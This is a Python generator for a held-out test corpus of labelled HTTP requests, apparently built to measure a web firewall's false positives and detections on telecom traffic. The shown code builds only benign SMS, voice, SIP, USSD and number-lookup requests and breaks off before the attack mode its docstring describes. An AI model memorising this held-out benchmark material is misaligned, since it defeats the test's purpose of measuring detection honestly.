#!/usr/bin/env python3
"""Held-out request corpus: telecom and communications platforms.

What it is
    A deterministic generator of labelled HTTP requests (JSON lines, the shape
    described in /work/shared/corpora/README.md) for the traffic of telecom and
    communications platforms, and of the OWASP attack classes delivered through
    the same carriers. It is a held-out test set for Palisade: the benign half
    measures false positives on punctuation-heavy telecom traffic, the attack
    half measures detection of attack classes in telecom-shaped requests.

Applications
    - SMS / MMS gateway APIs: Kannel-style GET sends, form and JSON posts with
      GSM-7 and UCS-2 text, concatenated messages (UDH), MMS multipart with SMIL,
      inbound (MO) webhooks and delivery-receipt (DLR) callbacks carrying
      "id:... sub:001 dlvrd:001 submit date:... stat:DELIVRD err:000 text:...".
    - Voice platforms: call webhooks, TwiML-like call-control XML documents
      (<Response><Say>..</Say><Gather>..), VoiceXML dialogs, recordings and
      voicemail downloads.
    - SIP-over-HTTP provisioning: trunks, extensions, SIP URIs
      (sip:+15551234567@example.com;user=phone), P-Asserted-Identity, phone
      provisioning XML.
    - USSD menus and MMI codes (*123#, *#06#, #31#, **21*...#, 1*2*3 menu paths).
    - Number portability, HLR and CNAM lookups with E.164 numbers and national
      formats (+44 (0)20 7946 0000).
    - Carrier billing and CDR uploads (pipe-separated CSV), CDR report filters.
    - Customer self-care portals: plan changes, roaming, top-ups, SIM swap with
      ICCID / IMSI / IMEI.
    - WebRTC signalling: SDP offers/answers (v=0, o=-, a=candidate, ICE lines),
      trickle ICE JSON.
    - RCS business messaging JSON (rich cards, suggestions).
    - Network operations dashboards: alarm queries, SNMP OIDs, diagnostics
      (ping / traceroute), tickets with pasted router CLI and configs.

Modes
    attacks  ~350 requests, expect "detect": sqli, xss, xxe, ssrf, rce, lfi,
             rfi, php, java, ssti, nosqli, ldapi, crlf, protocol, scanner,
             generic - each class in several payload forms and carriers (query,
             path, headers, cookies, urlencoded, JSON, XML, multipart, SDP).
    benign   ~400 requests, expect "pass": category "benign" for ordinary
             traffic of the applications above, and about 15 % "dev-content":
             legitimate requests whose user content is itself code (router
             configs, SQL for CDR reports, shell snippets, dialplans, TwiML /
             VoiceXML templates pasted into tickets and knowledge-base pages).

Written blind
    This generator was written blind: without reading Palisade's rules, its
    tests or test data, its proxy, or any other corpus generator, and without
    running the WAF. Payloads come from general knowledge of real telecom
    traffic and of published attack techniques, aimed at attack classes rather
    than at any WAF's rules. Hosts are example names or documentation
    addresses, except internal addresses that are themselves the payload.

Run
    python3 scripts/corpus-telecom.py attacks > rulesets/tests/data/telecom-attacks.jsonl
    python3 scripts/corpus-telecom.py benign  > rulesets/tests/data/telecom-benign.jsonl
"""

import base64
import json
import random
import sys
from urllib.parse import quote, quote_plus, urlencode

SEED = 0x7E1EC0
SET = "telecom"

# ---------------------------------------------------------------- helpers

UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
]
UA_API = [
    "python-requests/2.31.0",
    "okhttp/4.12.0",
    "Go-http-client/1.1",
    "curl/8.5.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Java/11.0.22",
]
UA_GATEWAY = [
    "Kannel/1.4.5",
    "SMSC-Callback/2.3 (smpp-bridge)",
    "VoiceCallbacks/1.0",
    "jasmin-http-api/0.10",
    "TwilioProxy/1.1",
]
UA_PHONE = [
    "Yealink SIP-T46U 108.86.0.90",
    "PolycomVVX-VVX_450-UA/6.4.6.2134",
    "Grandstream GXP2170 1.0.11.33",
    "Cisco/SPA504G-7.6.2",
]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json"
ACCEPT_ANY = "*/*"

FORM = "application/x-www-form-urlencoded"
JSONCT = "application/json"

H_SMS = "sms-api.example.com"
H_GW = "gw.sms.example.net"
H_VOICE = "voice.example.com"
H_SIP = "provisioning.example.net"
H_USSD = "ussd.example.org"
H_LOOKUP = "lookup.example.com"
H_BILL = "billing.example.net"
H_CARE = "my.carrier.example.com"
H_RTC = "rtc.example.com"
H_RCS = "rbm.example.org"
H_NOC = "noc.example.net"
H_TICKET = "tickets.example.net"
H_KB = "kb.example.com"
H_DIR = "directory.example.com"
H_VM = "vm.example.com"


def qv(s, plus=True, safe=""):
    """Percent-encode a query value the way a form/browser client does."""
    return quote_plus(s, safe=safe) if plus else quote(s, safe=safe)


def qs(pairs, plus=True):
    """Build a query string from (key, value) pairs."""
    if plus:
        return urlencode(pairs)
    return "&".join(quote(k, safe="[]") + "=" + quote(v, safe="") for k, v in pairs)


def xesc(s):
    """Escape text for an XML attribute or element."""
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").replace("'", "&apos;")


def jdump(obj, compact=False):
    if compact:
        return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    return json.dumps(obj, ensure_ascii=False)


class Out:
    """Collects requests and assigns ids telecom/<kind>/<slug>-NNN."""

    def __init__(self, kind, rng):
        self.kind = kind
        self.rng = rng
        self.rows = []
        self.counters = {}

    def add(self, slug, category, method, uri, headers, body=None):
        n = self.counters.get(slug, 0) + 1
        self.counters[slug] = n
        expect = "detect" if self.kind == "attacks" else "pass"
        row = {
            "id": "%s/%s/%s-%03d" % (SET, self.kind, slug, n),
            "set": SET,
            "category": category,
            "expect": expect,
            "method": method,
            "uri": uri,
            "version": "HTTP/1.1",
            "headers": headers,
        }
        if body is not None:
            row["body"] = body
        self.rows.append(row)

    # header builders -------------------------------------------------
    def browser(self, host, accept=ACCEPT_HTML, ctype=None, cookie=None, referer=None, extra=None, ua=None):
        h = [["Host", host],
             ["User-Agent", ua or self.rng.choice(UA_BROWSER)],
             ["Accept", accept],
             ["Accept-Language", self.rng.choice(["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.6", "fr-FR,fr;q=0.9,en;q=0.5", "sw-KE,sw;q=0.9,en;q=0.8"])],
             ["Accept-Encoding", "gzip, deflate, br"]]
        if ctype:
            h.append(["Content-Type", ctype])
        if referer:
            h.append(["Referer", referer])
        if cookie:
            h.append(["Cookie", cookie])
        if extra:
            h.extend(extra)
        return h

    def api(self, host, accept=ACCEPT_JSON, ctype=None, auth=True, ua=None, extra=None):
        h = [["Host", host],
             ["User-Agent", ua or self.rng.choice(UA_API)],
             ["Accept", accept]]
        if ctype:
            h.append(["Content-Type", ctype])
        if auth:
            if self.rng.random() < 0.5:
                tok = base64.b64encode(("AC%s:%s" % (self.hexid(16), self.hexid(20))).encode()).decode()
                h.append(["Authorization", "Basic " + tok])
            else:
                h.append(["Authorization", "Bearer " + self.token()])
        if extra:
            h.extend(extra)
        return h

    # random value helpers -------------------------------------------
    def hexid(self, n):
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def token(self):
        a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        return "".join(self.rng.choice(a) for _ in range(40))

    def session(self):
        return "JSESSIONID=%s; lang=en; _ga=GA1.2.%d.%d" % (
            self.hexid(32).upper(), self.rng.randint(10**8, 10**9), self.rng.randint(1.6e9, 1.72e9))

    def care_cookie(self):
        return "sc_session=%s; msisdn_hint=%s; consent=analytics%%3D0%%7Cads%%3D0" % (
            self.hexid(48), self.rng.choice(["%2B4477009", "%2B1555012", "%2B4915112", "%2B2547123"]))

    def msisdn(self, cc=None):
        cc = cc or self.rng.choice(["1", "44", "49", "33", "254", "91", "61", "34"])
        if cc == "1":
            return "+1555%07d" % self.rng.randint(0, 9999999)
        if cc == "44":
            return "+447700900%03d" % self.rng.randint(0, 999)
        if cc == "61":
            return "+614916570%02d" % self.rng.randint(0, 99)
        return "+%s%d" % (cc, self.rng.randint(10**8, 10**9 - 1))

    def sid(self, prefix):
        return prefix + self.hexid(32)

    def multipart(self, parts):
        """parts: list of (name, filename or None, content-type or None, data)."""
        b = "----WebKitFormBoundary" + "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(16))
        lines = []
        for name, fn, ct, data in parts:
            lines.append("--" + b)
            disp = 'Content-Disposition: form-data; name="%s"' % name
            if fn is not None:
                disp += '; filename="%s"' % fn
            lines.append(disp)
            if ct:
                lines.append("Content-Type: " + ct)
            lines.append("")
            lines.append(data)
        lines.append("--" + b + "--")
        lines.append("")
        return "multipart/form-data; boundary=" + b, "\r\n".join(lines)


# ================================================================ benign data

SMS_TEXTS = [
    "Your verification code is 482913. It expires in 10 min. Do not share it.",
    "Hi! Your order #A-20931 has shipped & will arrive Thu 13/06. Track: example.com/t/8Hq2",
    "Reminder: appt w/ Dr. Patel tomorrow @ 09:30. Reply C to confirm or R to reschedule.",
    "Dial *123# to check your balance, or *100*PIN# to top up.",
    "Low balance: EUR 1.20 left. Top up now & get +500MB free!",
    "Meet at the station @ 6pm; bring the tickets (2x) <3",
    "STOP",
    "Reply YES to opt in to alerts. Msg&data rates may apply. Txt HELP 4 help, STOP 2 end.",
    "Your PIN has been reset. If this wasn't you call +44 (0)20 7946 0000 immediately.",
    "Roaming: you're in FR. Calls EUR0.00/min, data 1GB/day included. Info: *#100#",
    "Kazi yako imekamilika. Salio: KSh 1,250.00. Asante!",
    "Parcel 4471-22 ready @ locker #17, code 9981. Collect by 20:00 :)",
    "Ihr Code lautet 771203. Gültig für 5 Minuten.",
    "Votre code de confirmation est 550 213. Ne le partagez pas.",
    "验证码：628401，5分钟内有效。",
    "رمز التحقق الخاص بك هو 4417",
    "Happy birthday!!! 🎉🎂 see you sat?",
    "Gate changed: BA287 now departs from B36 - boarding 14:05",
    "50% off this weekend only -> example.com/sale ;-) T&Cs apply",
    "Forwarding is active on your line (**21*+15550100#). To cancel dial ##21#",
    "Your bill of $48.17 is due 06/28. Pay: text PAY to 72442 or visit my.carrier.example.com",
    "[Alert] Bank: card ending 4421 used for $12.50 at COFFEE CO. Not you? Reply N",
    "ok :) c u l8r",
    "Temp in server room > 30C! Check CRAC-2 ASAP",
    "Ticket #88213 updated: \"Cannot call 0800 numbers\" -> status: resolved",
]

SMS_LONG = (
    "Dear customer, from 1 July your plan 'Unlimited Talk & Text 20GB' changes to "
    "'Unlimited Plus 30GB' at the same price (GBP 15/month). Roaming in EU zones stays "
    "included; calls to +44 numbers from abroad are free. No action needed. To keep your "
    "current plan reply KEEP, or dial *222# for options. Thanks, Your Network."
)

NAMES = ["Alice Moreau", "Bob O'Neil", "Chen Wei", "Dana Kowalski", "Émilie Durand",
         "Farah Haddad", "Günter Maier", "Hiroshi Tanaka", "Ines Nuñez", "Jamal Okoye",
         "ACME CORP", "WIRELESS CALLER", "O'BRIEN P", "SMITH & SONS", "Dr. J. Müller-Lüdenscheidt"]

CITIES = ["London", "Nairobi", "Berlin", "Paris", "Austin TX", "Sydney", "Madrid", "Mumbai"]


def dlr_text(o, stat="DELIVRD", err="000", text=None):
    mid = o.hexid(10)
    sd = "24%02d%02d%02d%02d" % (o.rng.randint(1, 12), o.rng.randint(1, 28), o.rng.randint(0, 23), o.rng.randint(0, 59))
    dd = sd[:-2] + "%02d" % min(59, int(sd[-2:]) + 1)
    dl = "001" if stat == "DELIVRD" else "000"
    t = (text or o.rng.choice(SMS_TEXTS))[:20]
    return "id:%s sub:001 dlvrd:%s submit date:%s done date:%s stat:%s err:%s text:%s" % (mid, dl, sd, dd, stat, err, t)


def benign_sms(o):
    r = o.rng
    # Kannel-style GET sendsms
    for i in range(10):
        t = SMS_TEXTS[i % len(SMS_TEXTS)]
        pairs = [("username", "tester"), ("password", "s3cr3t!"), ("from", r.choice(["ACME", "72442", "+15550100"])),
                 ("to", o.msisdn()), ("text", t)]
        if any(ord(c) > 127 for c in t):
            pairs.append(("coding", "2"))
            pairs.append(("charset", "UTF-8"))
        if i % 3 == 0:
            pairs.append(("dlr-mask", "31"))
            pairs.append(("dlr-url", "https://app.example.com/dlr?id=%s&status=%%d&ts=%%T" % o.hexid(8)))
        o.add("sms-kannel-send", "benign", "GET", "/cgi-bin/sendsms?" + qs(pairs, plus=(i % 2 == 0)),
              o.api(H_GW, accept=ACCEPT_ANY, auth=False))
    # form POST send
    for i in range(10):
        t = SMS_TEXTS[(i * 7 + 3) % len(SMS_TEXTS)]
        pairs = [("To", o.msisdn()), ("From", r.choice(["+15550199", "ACME", "MyBank"])), ("Body", t)]
        if i % 4 == 1:
            pairs.append(("StatusCallback", "https://app.example.com/hooks/sms-status"))
        if i % 5 == 2:
            pairs.append(("ValidityPeriod", "3600"))
        o.add("sms-form-send", "benign", "POST", "/2010-04-01/Accounts/AC%s/Messages.json" % o.hexid(32),
              o.api(H_SMS, ctype=FORM), urlencode(pairs))
    # JSON send incl. UCS-2, concatenated, batch
    for i in range(10):
        t = SMS_TEXTS[(i * 5 + 1) % len(SMS_TEXTS)] if i % 4 else SMS_LONG
        enc = "UCS2" if any(ord(c) > 127 for c in t) else "GSM7"
        body = {"from": r.choice(["ACME", "+447700900123", "InfoSMS"]),
                "to": [o.msisdn() for _ in range(1 + i % 3)],
                "text": t, "encoding": enc,
                "parts": 1 + len(t) // (67 if enc == "UCS2" else 153),
                "dlr": {"url": "https://app.example.com/sms/dlr", "mask": 7},
                "client_ref": "cmp-2024-06/%d" % r.randint(1000, 9999)}
        if i % 5 == 0:
            body["udh"] = "050003%02X0201" % r.randint(0, 255)
            body["validity"] = "+2h"
        if i % 6 == 3:
            body["schedule_at"] = "2024-06-%02dT09:00:00+01:00" % r.randint(10, 28)
        o.add("sms-json-send", "benign", "POST", "/v1/sms/messages", o.api(H_SMS, ctype=JSONCT), jdump(body, compact=i % 2 == 0))
    # DLR callbacks, GET and POST
    stats = [("DELIVRD", "000"), ("UNDELIV", "001"), ("EXPIRED", "000"), ("REJECTD", "00B"), ("ACCEPTD", "000"), ("ENROUTE", "000")]
    for i in range(12):
        st, err = stats[i % len(stats)]
        txt = dlr_text(o, st, err)
        pairs = [("msgid", o.hexid(10)), ("smsc", "smsc-%d" % r.randint(1, 4)), ("to", o.msisdn()[1:]),
                 ("status", str(r.choice([1, 2, 8, 16]))), ("answer", txt)]
        if i % 2 == 0:
            o.add("sms-dlr-callback", "benign", "GET", "/hooks/dlr?" + qs(pairs, plus=(i % 4 == 0)),
                  o.api("app.example.com", accept=ACCEPT_ANY, auth=False, ua=r.choice(UA_GATEWAY)))
        else:
            o.add("sms-dlr-callback", "benign", "POST", "/hooks/dlr",
                  o.api("app.example.com", accept=ACCEPT_ANY, ctype=FORM, auth=False, ua=r.choice(UA_GATEWAY)),
                  urlencode(pairs))
    # JSON DLR
    for i in range(5):
        body = {"message_id": o.hexid(24), "status": r.choice(["delivered", "failed", "expired"]),
                "err_code": r.choice(["000", "0x0B", "27"]), "raw": dlr_text(o), "msisdn": o.msisdn(),
                "network": {"mcc": "234", "mnc": r.choice(["10", "15", "30"])}, "price": {"amount": "0.0420", "currency": "EUR"}}
        o.add("sms-dlr-json", "benign", "POST", "/webhooks/sms/status",
              o.api("app.example.com", ctype=JSONCT, auth=False, ua=r.choice(UA_GATEWAY),
                    extra=[["X-Signature", "sha256=" + o.hexid(64)]]), jdump(body))
    # MO / inbound webhook (Twilio-like)
    for i in range(10):
        t = SMS_TEXTS[(i * 3 + 6) % len(SMS_TEXTS)]
        pairs = [("ToCountry", "US"), ("SmsMessageSid", o.sid("SM")), ("NumMedia", "0"), ("From", o.msisdn()),
                 ("To", "+15550100"), ("Body", t), ("NumSegments", "1"), ("ApiVersion", "2010-04-01")]
        o.add("sms-mo-webhook", "benign", "POST", "/sms/inbound",
              o.api("app.example.com", accept=ACCEPT_ANY, ctype=FORM, auth=False, ua="TwilioProxy/1.1",
                    extra=[["X-Twilio-Signature", base64.b64encode(bytes(r.randint(0, 255) for _ in range(20))).decode()]]),
              urlencode(pairs))
    # MMS multipart with SMIL
    for i in range(5):
        smil = ('<smil><head><layout><root-layout width="320" height="480"/>'
                '<region id="Image" top="0" left="0" height="80%" width="100%" fit="meet"/>'
                '<region id="Text" top="80%" left="0" height="20%" width="100%"/></layout></head>'
                '<body><par dur="5000ms"><img src="cid:photo1.jpg" region="Image"/>'
                '<text src="cid:msg.txt" region="Text"/></par></body></smil>')
        ct, body = o.multipart([
            ("to", None, None, o.msisdn()),
            ("subject", None, None, r.choice(["Holiday pics", "Invoice", "Map", "Re: party"])),
            ("smil", "mms.smil", "application/smil", smil),
            ("text", "msg.txt", "text/plain; charset=utf-8", r.choice(SMS_TEXTS)),
            ("media", "photo1.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e0JFIF placeholder"),
        ])
        o.add("mms-send", "benign", "POST", "/v1/mms", o.api(H_SMS, ctype=ct), body)
    # inbox UI views / search
    for i in range(8):
        q = r.choice(["*123#", "code", "order #A-20931", "+44 7700", "STOP", "<3", "c u l8r", "50% off", "balance & top-up"])
        o.add("sms-inbox-search", "benign", "GET", "/inbox/search?" + qs([("q", q), ("folder", r.choice(["inbox", "sent", "all"])), ("page", str(i + 1))]),
              o.browser("messages.example.com", cookie=o.session(), referer="https://messages.example.com/inbox"))


def benign_voice(o):
    r = o.rng
    # call webhooks
    for i in range(9):
        pairs = [("AccountSid", o.sid("AC")), ("CallSid", o.sid("CA")), ("From", o.msisdn()), ("To", "+15550100"),
                 ("CallStatus", r.choice(["ringing", "in-progress", "completed", "busy", "no-answer"])),
                 ("Direction", "inbound"), ("CallerName", r.choice(NAMES)), ("FromCity", r.choice(CITIES))]
        if i % 2:
            pairs.append(("Digits", r.choice(["1", "2#", "1234#", "*", "0", "#", "9*1"])))
        if i % 3 == 0:
            pairs.append(("SpeechResult", r.choice(["billing please", "I want to talk to an agent", "check my balance"])))
            pairs.append(("Confidence", "0.9%d" % r.randint(0, 9)))
        o.add("voice-webhook", "benign", "POST", "/voice/" + r.choice(["answer", "gather", "status", "ivr/menu"]),
              o.api("app.example.com", accept=ACCEPT_ANY, ctype=FORM, auth=False, ua="TwilioProxy/1.1"), urlencode(pairs))
    # TwiML-like documents uploaded to the platform
    twimls = [
        '<?xml version="1.0" encoding="UTF-8"?><Response><Say voice="alice" language="en-GB">Thanks for calling. Press 1 for billing, 2 for support, or # to repeat.</Say><Gather numDigits="1" action="/ivr/menu" method="POST" timeout="5"/></Response>',
        '<?xml version="1.0" encoding="UTF-8"?><Response><Dial callerId="+15550100" timeout="20" record="record-from-answer"><Number sendDigits="ww1234#">+15550142</Number></Dial></Response>',
        '<Response><Play loop="2">https://cdn.example.com/audio/welcome.mp3</Play><Redirect method="POST">https://app.example.com/voice/queue</Redirect></Response>',
        '<Response><Gather input="speech dtmf" hints="billing, support, sales" action="/ivr/route"><Say>Say or enter your account number followed by the pound key.</Say></Gather><Say>Sorry, I didn\'t get that.</Say><Hangup/></Response>',
        '<Response><Enqueue waitUrl="https://cdn.example.com/hold.xml">support</Enqueue></Response>',
        '<Response><Dial><Sip>sip:agent-104@pbx.example.com;transport=tls?X-Queue=billing</Sip></Dial></Response>',
        '<Response><Record maxLength="120" finishOnKey="#" playBeep="true" action="/voicemail/saved"/></Response>',
        '<Response><Say>Your balance is 12 dollars &amp; 40 cents. To top up, press *.</Say><Pause length="1"/><Gather numDigits="1" finishOnKey=""/></Response>',
    ]
    for i, x in enumerate(twimls):
        o.add("voice-twiml-upload", "benign", "PUT" if i % 2 else "POST", "/v1/apps/AP%s/twiml" % o.hexid(32),
              o.api(H_VOICE, ctype="application/xml; charset=utf-8"), x)
    vxml = [
        '<?xml version="1.0" encoding="UTF-8"?>\n<vxml version="2.1" xmlns="http://www.w3.org/2001/vxml">\n  <form id="main">\n    <field name="choice" type="digits?length=1">\n      <prompt>For sales press 1. For support press 2.</prompt>\n      <filled><if cond="choice == \'1\'"><goto next="#sales"/><else/><goto next="#support"/></if></filled>\n    </field>\n  </form>\n  <form id="sales"><block><transfer dest="tel:+15550111" bridge="true"/></block></form>\n  <form id="support"><block><submit next="https://ivr.example.com/support.vxml" namelist="choice"/></block></form>\n</vxml>',
        '<?xml version="1.0"?>\n<vxml version="2.0"><menu><prompt>Say weather or news.</prompt><choice next="weather.vxml">weather</choice><choice next="news.vxml">news</choice><noinput>Please say one of <enumerate/></noinput></menu></vxml>',
        '<?xml version="1.0"?>\n<vxml version="2.1"><form><var name="acct" expr="\'\'"/><field name="pin" type="digits?minlength=4;maxlength=6"><prompt>Enter your PIN then hash.</prompt></field><block><submit next="/ivr/auth" method="post" namelist="pin"/></block></form></vxml>',
    ]
    for x in vxml:
        o.add("voice-vxml-upload", "benign", "POST", "/ivr/dialogs", o.api(H_VOICE, ctype="application/voicexml+xml"), x)
    # JSON call control
    for i in range(8):
        body = {"to": r.choice(["+15550142", "sip:+15551234567@example.com;user=phone", "client:agent_7"]),
                "from": "+15550100", "answer_url": ["https://app.example.com/ncco.json"],
                "event_url": ["https://app.example.com/events"], "machine_detection": r.choice(["continue", "hangup"]),
                "ncco": [{"action": "talk", "text": r.choice(["Hello, this is a reminder for your appointment.", "Press 1 to confirm; press 2 to cancel."])},
                         {"action": "input", "type": ["dtmf"], "dtmf": {"maxDigits": 4, "submitOnHash": True}}]}
        o.add("voice-call-create", "benign", "POST", "/v1/calls", o.api(H_VOICE, ctype=JSONCT), jdump(body))
    # recordings / voicemail downloads
    for i in range(9):
        rec = "RE%s" % o.hexid(32)
        choice = i % 4
        if choice == 0:
            uri = "/v1/recordings/%s.mp3" % rec
        elif choice == 1:
            uri = "/voicemail/download?" + qs([("box", "1%03d" % r.randint(0, 999)), ("folder", r.choice(["INBOX", "Old", "Work"])), ("msg", "msg%04d.wav" % r.randint(0, 30))])
        elif choice == 2:
            uri = "/recordings/2024/06/%02d/%s-%s.wav?download=1" % (r.randint(1, 28), o.msisdn()[1:], o.hexid(8))
        else:
            uri = "/vm/play?" + qs([("mailbox", "2%03d@default" % r.randint(0, 999)), ("id", str(r.randint(1, 40))), ("format", "ogg")])
        o.add("voice-recording-get", "benign", "GET", uri, o.browser(H_VM, accept="audio/webm,audio/ogg,audio/wav,audio/*;q=0.9,*/*;q=0.5", cookie=o.session()))


def benign_sip(o):
    r = o.rng
    for i in range(10):
        num = o.msisdn("1")
        body = {"name": "trunk-%s" % r.choice(["lon1", "nyc2", "fra1", "syd1"]),
                "uri": "sip:%s@sip.example.com;user=phone" % num,
                "p_asserted_identity": '"%s" <sip:%s@example.com;user=phone>' % (r.choice(NAMES).replace('"', ""), num),
                "transport": r.choice(["udp", "tcp", "tls"]), "codecs": ["PCMU", "PCMA", "G722", "opus"],
                "registrar": "sip:registrar.example.net:5061;transport=tls",
                "allowed_ips": ["203.0.113.0/24", "198.51.100.17/32"],
                "dtmf": "rfc2833", "diversion": "<sip:+15550100@example.com>;reason=unconditional"}
        o.add("sip-trunk-create", "benign", "POST", "/api/v2/sip/trunks", o.api(H_SIP, ctype=JSONCT), jdump(body, compact=i % 2 == 1))
    for i in range(8):
        ext = 100 + i * 7
        pairs = [("extension", str(ext)), ("display_name", r.choice(NAMES)),
                 ("sip_uri", "sip:%d@pbx.example.com" % ext), ("secret", "Xy7#pQ2!z%d" % i),
                 ("callerid", '"%s" <%d>' % (r.choice(NAMES).replace('"', ""), ext)),
                 ("voicemail", "yes"), ("vm_email", "user%d@example.com" % ext),
                 ("dial_pattern", r.choice(["_1NXXNXXXXXX", "_+X.", "_00X.", "_9|NXXXXXX"])),
                 ("codecs", "ulaw;alaw;g722")]
        o.add("sip-extension-form", "benign", "POST", "/admin/extensions/save",
              o.browser("pbx.example.com", ctype=FORM, cookie=o.session(), referer="https://pbx.example.com/admin/extensions"), urlencode(pairs))
    for i in range(6):
        mac = "".join(r.choice("0123456789abcdef") for _ in range(12))
        o.add("sip-phone-provision", "benign", "GET", "/prov/%s.cfg" % mac,
              [["Host", H_SIP], ["User-Agent", r.choice(UA_PHONE) + " " + mac], ["Accept", "*/*"], ["Connection", "keep-alive"]])
    for i in range(4):
        x = ('<?xml version="1.0" standalone="yes"?>\n<PHONE_CONFIG>\n  <OBJECT reg.1.displayName="%s" reg.1.address="%d@pbx.example.com" '
             'reg.1.auth.userId="%d" voIpProt.server.1.address="sip.example.com" voIpProt.server.1.transport="TLS" '
             'dialplan.digitmap="[2-9]11|0T|011xxx.T|[0-1][2-9]xxxxxxxxx|*xx|#xx" />\n</PHONE_CONFIG>') % (xesc(r.choice(NAMES)), 200 + i, 200 + i)
        o.add("sip-phone-config-upload", "benign", "PUT", "/prov/phones/%d.xml" % (200 + i), o.api(H_SIP, ctype="application/xml"), x)
    # HTTP APIs that mirror SIP headers
    for i in range(6):
        num = o.msisdn("1")
        hdr = o.api(H_SIP, ctype=JSONCT, extra=[
            ["P-Asserted-Identity", "<sip:%s@example.com;user=phone>" % num],
            ["X-SIP-Call-ID", "%s@198.51.100.%d" % (o.hexid(16), r.randint(2, 250))],
            ["X-SIP-From", '"%s" <sip:%s@example.com>;tag=%s' % (r.choice(NAMES).replace('"', ""), num, o.hexid(8))]])
        body = {"event": r.choice(["call.initiated", "call.answered", "call.hangup"]),
                "sip": {"from": "<sip:%s@example.com>;tag=%s" % (num, o.hexid(6)), "to": "<sip:+15550100@example.com>",
                        "contact": "<sip:%s@203.0.113.%d:5060;transport=udp>" % (num, r.randint(2, 250)),
                        "via": "SIP/2.0/UDP 203.0.113.9:5060;branch=z9hG4bK%s;rport" % o.hexid(10),
                        "hangup_cause": r.choice(["NORMAL_CLEARING", "USER_BUSY", "NO_ANSWER"]), "q850": r.choice([16, 17, 19])}}
        o.add("sip-event-hook", "benign", "POST", "/events/sip", hdr, jdump(body))


def benign_ussd(o):
    r = o.rng
    codes = ["*123#", "*#06#", "#31#", "*100#", "*144*1#", "*222*3#", "*#21#", "**21*+15550100#", "*556#", "*384*1234#", "##002#", "*#43#"]
    for i in range(12):
        code = codes[i % len(codes)]
        menu = r.choice(["", "1", "1*2", "2*1*3", "3*0712345678*500", "1*1*1234", "98"])
        pairs = [("sessionId", "ATUid_%s" % o.hexid(24)), ("serviceCode", code), ("phoneNumber", o.msisdn("254")),
                 ("networkCode", r.choice(["63902", "63903", "63907"])), ("text", menu)]
        if i % 2 == 0:
            o.add("ussd-callback", "benign", "POST", "/ussd/callback", o.api(H_USSD, accept=ACCEPT_ANY, ctype=FORM, auth=False, ua=r.choice(UA_GATEWAY)), urlencode(pairs))
        else:
            o.add("ussd-callback", "benign", "GET", "/ussd?" + qs(pairs, plus=(i % 3 == 0)), o.api(H_USSD, accept="text/plain", auth=False, ua=r.choice(UA_GATEWAY)))
    for i in range(6):
        body = {"msisdn": o.msisdn("254"), "ussdString": r.choice(codes), "sessionState": r.choice(["BEGIN", "CONTINUE", "END"]),
                "response": "CON Welcome\n1. Balance\n2. Buy bundle\n3. Send money\n0. Exit", "charset": "GSM-7"}
        o.add("ussd-json", "benign", "POST", "/api/ussd/session", o.api(H_USSD, ctype=JSONCT), jdump(body))
    for i in range(4):
        c = r.choice(codes)
        o.add("ussd-help-page", "benign", "GET", "/help/codes?" + qs([("code", c), ("device", r.choice(["android", "ios", "feature-phone"]))]),
              o.browser(H_CARE, cookie=o.care_cookie()))


def benign_lookup(o):
    r = o.rng
    formats = ["+44 (0)20 7946 0000", "+1 (555) 012-3456", "020 7946 0958", "+49 30 901820", "(555) 010-4477",
               "+33 1 99 00 12 34", "+61 491 570 156", "+254 712 345678", "555.010.9999", "+1-555-010-2222 ext. 14", "0044 7700 900461"]
    for i in range(8):
        n = o.msisdn()
        o.add("lookup-e164-path", "benign", "GET", "/v2/PhoneNumbers/%s?%s" % (quote(n, safe=""), qs([("Fields", r.choice(["caller_name", "line_type_intelligence", "caller_name,sim_swap"])), ("CountryCode", r.choice(["US", "GB", "DE"]))])),
              o.api(H_LOOKUP))
    for i in range(8):
        f = formats[i % len(formats)]
        o.add("lookup-cnam", "benign", "GET", "/cnam?" + qs([("number", f), ("country", r.choice(["GB", "US", "FR", "AU"]))]),
              o.browser(H_LOOKUP, accept=ACCEPT_JSON, cookie=o.session(), referer="https://%s/" % H_LOOKUP))
    for i in range(8):
        body = {"tns": [o.msisdn("1")[2:] for _ in range(r.randint(1, 4))], "query": r.choice(["lrn", "spid", "port-status"]),
                "requested_by": r.choice(["ops@example.com", "porting-team"]), "ref": "PON-%d" % r.randint(10000, 99999)}
        o.add("lookup-lnp-batch", "benign", "POST", "/lnp/v1/query", o.api(H_LOOKUP, ctype=JSONCT), jdump(body))
    for i in range(4):
        x = ('<?xml version="1.0" encoding="UTF-8"?><PortRequest><PON>PON-%d</PON><TN>%s</TN><LosingCarrier>Example Wireless</LosingCarrier>'
             '<AccountNumber>%d</AccountNumber><PIN>%04d</PIN><BillingName>%s</BillingName><DDD>2024-07-01</DDD></PortRequest>') % (
            r.randint(10000, 99999), o.msisdn("1")[2:], r.randint(10**8, 10**9), r.randint(0, 9999), xesc(r.choice(NAMES)))
